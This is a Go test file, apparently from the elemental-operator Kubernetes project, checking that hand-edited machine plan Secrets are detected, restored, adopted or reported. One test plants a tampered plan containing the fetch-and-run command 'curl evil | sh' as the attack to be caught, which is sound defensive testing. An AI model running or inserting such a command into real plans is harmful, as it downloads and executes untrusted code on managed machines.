package machineinventory_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	elementalv1 "github.com/elemental-operator/elemental-operator/pkg/apis/elemental.cattle.io/v1beta1"
	"github.com/elemental-operator/elemental-operator/pkg/metrics"
	"github.com/elemental-operator/elemental-operator/pkg/plans"
)

// adminPatch is a hand edit with admin credentials (kubectl edit/patch).
func adminPatch(t *testing.T, ns, name, patch string) {
	t.Helper()
	_, err := env.Client.CoreV1().Secrets(ns).Patch(context.Background(), name, types.MergePatchType, []byte(patch), metav1.PatchOptions{})
	require.NoError(t, err)
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func tampered(typ, restored string) float64 {
	return testutil.ToFloat64(metrics.PlanTampered.WithLabelValues(typ, restored))
}

// TestHandEditedPlanIsRestored: data.plan edited by hand (admin credentials,
// past the admission policy) is detected and put back to the recorded bytes.
func TestHandEditedPlanIsRestored(t *testing.T) {
	ns := newNamespace(t)
	newInventory(t, ns, "edited", nil)
	getSecret(t, ns, "edited")
	bootstrap := []byte(`{"instructions":[{"name":"install","command":"sh","args":["-c","true"]}]}`)
	writePlan(t, ns, "edited", bootstrap, elementalv1.PlanTypeBootstrap) // a legitimate writer: plan and record
	eventually(t, 30*time.Second, func() error {
		if mi := getInventory(t, ns, "edited"); mi.Status.Plan == nil || mi.Status.Plan.Checksum != plans.Checksum(bootstrap) {
			return fmt.Errorf("status not at the bootstrap plan yet")
		}
		return nil
	})
	before := getSecret(t, ns, "edited")
	require.Nil(t, condition(getInventory(t, ns, "edited"), elementalv1.ConditionPlanTampered), "no tampering, no condition")
	count := tampered(elementalv1.PlanTypeBootstrap, "true")

	evil := `{"instructions":[{"name":"evil","command":"sh","args":["-c","curl evil | sh"]}]}`
	adminPatch(t, ns, "edited", fmt.Sprintf(`{"data":{"plan":%q}}`, b64(evil)))

	mi := waitReason(t, ns, "edited", elementalv1.ConditionPlanTampered, metav1.ConditionTrue, elementalv1.ReasonPlanRestored, 30*time.Second)
	assert.Contains(t, condition(mi, elementalv1.ConditionPlanTampered).Message, plans.Checksum([]byte(evil))[:12])
	after := getSecret(t, ns, "edited")
	assert.Equal(t, bootstrap, after.Data["plan"], "restored to the recorded bytes")
	assert.Equal(t, before.Annotations, after.Annotations, "the record is unchanged")
	waitEvent(t, ns, "edited", "PlanTampered", "restored")
	assert.Equal(t, count+1, tampered(elementalv1.PlanTypeBootstrap, "true"))
	assert.Equal(t, plans.Checksum(bootstrap), mi.Status.Plan.Checksum)

	// A legitimate writer moves on: the condition clears.
	writePlan(t, ns, "edited", plans.Empty, elementalv1.PlanTypeEmpty)
	waitReason(t, ns, "edited", elementalv1.ConditionPlanTampered, metav1.ConditionFalse, elementalv1.ReasonPlanIntact, 30*time.Second)
	assert.Equal(t, count+1, tampered(elementalv1.PlanTypeBootstrap, "true"), "a legitimate write is no tampering")
}

// TestUnrecordedPlanIsAdopted: a plan Secret written by an older operator or
// upstream's (no record) keeps its plan, which becomes the record; nothing
// is reported.
func TestUnrecordedPlanIsAdopted(t *testing.T) {
	ns := newNamespace(t)
	newInventory(t, ns, "legacy", nil)
	getSecret(t, ns, "legacy")
	upstream := `{"instructions":[{"name":"upstream","command":"true"}]}`
	adminPatch(t, ns, "legacy", fmt.Sprintf(`{"metadata":{"annotations":{%q:null,%q:null,%q:"bootstrap"}},"data":{"plan":%q}}`,
		elementalv1.PlanChecksumAnnotation, elementalv1.PlanRecordAnnotation, elementalv1.PlanTypeAnnotation, b64(upstream)))
	eventually(t, 30*time.Second, func() error {
		s := getSecret(t, ns, "legacy")
		if s.Annotations[elementalv1.PlanChecksumAnnotation] != plans.Checksum([]byte(upstream)) {
			return fmt.Errorf("not adopted yet: %v", s.Annotations)
		}
		return nil
	})
	s := getSecret(t, ns, "legacy")
	assert.Equal(t, upstream, string(s.Data["plan"]), "an unrecorded plan is never rewritten")
	assert.Equal(t, plans.Intact, plans.Verify(s).Integrity)
	eventually(t, 30*time.Second, func() error {
		if mi := getInventory(t, ns, "legacy"); mi.Status.Plan == nil || mi.Status.Plan.Checksum != plans.Checksum([]byte(upstream)) {
			return fmt.Errorf("status not at the adopted plan yet")
		}
		return nil
	})
	assert.Nil(t, condition(getInventory(t, ns, "legacy"), elementalv1.ConditionPlanTampered))
}

// TestUnrestorablePlanIsReported: without a usable copy in the record the
// plan cannot be put back: reported once (condition, Ready, Event, metric),
// never rewritten, until a writer records a plan again.
func TestUnrestorablePlanIsReported(t *testing.T) {
	ns := newNamespace(t)
	newInventory(t, ns, "lost", nil)
	getSecret(t, ns, "lost")
	count := tampered(elementalv1.PlanTypeEmpty, "false")
	edited := `{"instructions":[{"name":"edited","command":"true"}]}`
	adminPatch(t, ns, "lost", fmt.Sprintf(`{"metadata":{"annotations":{%q:null}},"data":{"plan":%q}}`, elementalv1.PlanRecordAnnotation, b64(edited)))

	mi := waitReason(t, ns, "lost", elementalv1.ConditionPlanTampered, metav1.ConditionTrue, elementalv1.ReasonPlanNotRestored, 30*time.Second)
	assert.Equal(t, elementalv1.ReasonPlanNotRestored, condition(mi, elementalv1.ConditionReady).Reason)
	assert.Contains(t, condition(mi, elementalv1.ConditionPlanTampered).Message, "no copy")
	waitEvent(t, ns, "lost", "PlanTampered", "cannot be restored")
	// More passes (an agent-style write-back wakes the controller) report nothing new.
	agentReports(t, ns, "lost", map[string]string{"probe-statuses": "{}"})
	agentReports(t, ns, "lost", map[string]string{"probe-statuses": `{"a":{}}`})
	time.Sleep(2 * time.Second)
	assert.Equal(t, count+1, tampered(elementalv1.PlanTypeEmpty, "false"))
	assert.Equal(t, edited, string(getSecret(t, ns, "lost").Data["plan"]), "never rewritten without a record")

	writePlan(t, ns, "lost", plans.Empty, elementalv1.PlanTypeEmpty)
	waitReason(t, ns, "lost", elementalv1.ConditionPlanTampered, metav1.ConditionFalse, elementalv1.ReasonPlanIntact, 30*time.Second)
}
